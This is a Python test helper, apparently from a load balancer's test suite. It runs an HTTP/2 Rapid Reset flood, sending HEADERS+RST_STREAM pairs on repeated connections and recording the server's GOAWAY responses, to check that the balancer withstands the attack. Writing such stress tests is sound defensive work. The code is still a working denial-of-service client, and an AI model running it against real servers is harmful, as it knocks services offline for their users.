"""Hostile HTTP/2 clients, as a process of their own (so they do not share a GIL with the
client whose latency a test measures).

    python h2attack.py rapid-reset PORT PAIRS SECONDS

writes PAIRS HEADERS+RST_STREAM pairs on a connection, as fast as the socket takes them,
reads until l7lb closes it, and does it again on a new connection until SECONDS passed;
prints one JSON line: connections used, the GOAWAY codes received, and how many pairs
l7lb closed each connection after (the last stream id of its GOAWAY, halved).
"""

from __future__ import annotations

import json
import os
import struct
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

from h2client import Raw
from h2wire import END_HEADERS, END_STREAM, GOAWAY, HEADERS, frame, rst

# GET https://localhost/ in HPACK with no dynamic-table change (static indexes, and
# :authority as a literal without indexing), so every request's block is the same bytes
BLOCK = b"\x82\x87\x84\x01\x09localhost"


def pair(sid: int) -> bytes:
    return frame(HEADERS, END_HEADERS | END_STREAM, sid, BLOCK) + rst(sid)


def rapid_reset(port: int, pairs: int, seconds: float) -> dict[str, object]:
    blast = [b"".join(pair(sid) for sid in range(i, i + 200, 2)) for i in range(1, 2 * pairs, 200)]
    connections = 0
    codes: list[int] = []
    taken: list[int] = []
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        raw = Raw(port)
        connections += 1
        for chunk in blast:
            if not raw.send(chunk):
                break
            raw.read(0)  # take what came, so l7lb never blocks writing to us
        for f in raw.wait_closed(10.0):
            if f.kind == GOAWAY:
                codes.append(struct.unpack(">I", f.payload[4:8])[0])
                taken.append((struct.unpack(">I", f.payload[:4])[0] + 1) // 2)
        raw.close()
    return {"pairs": pairs, "connections": connections, "goaway": codes, "taken": taken}


if __name__ == "__main__":
    # the test measures l7lb's fairness, not this machine's: the attacker yields the CPU
    # to the client whose latency is measured whenever both want it
    os.nice(10)
    kind, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
    assert kind == "rapid-reset"
    print(json.dumps(rapid_reset(port, count, float(seconds))))
